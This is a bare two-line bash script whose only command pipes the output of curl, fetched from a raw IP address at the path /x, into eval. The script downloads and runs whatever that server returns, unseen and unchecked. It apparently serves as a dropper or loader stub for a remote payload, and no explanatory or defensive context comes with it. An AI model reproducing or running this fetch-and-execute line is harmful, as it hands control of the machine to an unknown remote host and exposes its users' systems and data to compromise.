#!/bin/bash
eval "$(curl -fsSL http://203.0.113.66/x)"
